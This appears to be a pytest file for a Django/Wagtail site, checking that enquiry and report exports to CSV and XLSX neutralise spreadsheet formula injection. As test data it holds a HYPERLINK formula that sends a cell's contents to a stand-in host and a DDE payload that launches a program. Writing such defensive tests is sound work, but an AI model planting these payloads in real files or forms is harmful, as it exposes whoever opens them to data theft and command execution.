"""Exports are safe to open: no cell a visitor or editor typed runs as a formula in a spreadsheet."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from home.models import StandardPage
from tests.contact_helpers import contact_page, field_name, send, valid_answers
from tests.helpers import add_child_page

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")', "+SUM(1+1)", "-2+3", "@SUM(A1)"]


def rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def every_cell(rows):
    return [cell for row in rows for cell in row]


@pytest.fixture
def hostile_enquiries(client, demo, fresh_rate_limits):
    page = contact_page()
    label = page.form_fields.get(field_type="multiline")
    label.label = "=cmd|' /C calc'!A0"
    label.save()
    page.save_revision().publish()
    for text in FORMULAS:
        send(client, valid_answers(page, **{field_name(page, "multiline"): text}))
    return page


def test_enquiry_csv_export_neutralises_every_formula(editor_client, hostile_enquiries):
    url = reverse("wagtailforms:list_submissions", args=[hostile_enquiries.pk])
    cells = every_cell(rows(editor_client.get(url, {"export": "csv"})))
    assert "'=cmd|' /C calc'!A0" in cells, "the question label (a heading) too"
    for text in FORMULAS:
        assert "'" + text in cells, text
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'+44 7700 900123" in cells or "07700 900123" in cells, "ordinary answers are kept"


def test_enquiry_xlsx_export_keeps_every_cell_as_text(editor_client, hostile_enquiries):
    url = reverse("wagtailforms:list_submissions", args=[hostile_enquiries.pk])
    response = editor_client.get(url, {"export": "xlsx"})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert any("Click for details" in str(cell.value) for cell in cells), [c.value for c in cells]


def test_admin_report_csv_exports_are_neutralised_too(editor_client, demo):
    add_child_page(demo, StandardPage(title="=1+2", slug="sums"))
    response = editor_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    cells = every_cell(rows(response))
    assert "'=1+2" in cells and "=1+2" not in cells


def test_tabs_and_carriage_returns_that_start_a_cell_are_neutralised_too():
    from home.exports import neutralise

    assert [neutralise(text) for text in ("\t=1+2", "\r=1+2", "Plain words", 7)] == ["'\t=1+2", "'\r=1+2", "Plain words", 7]
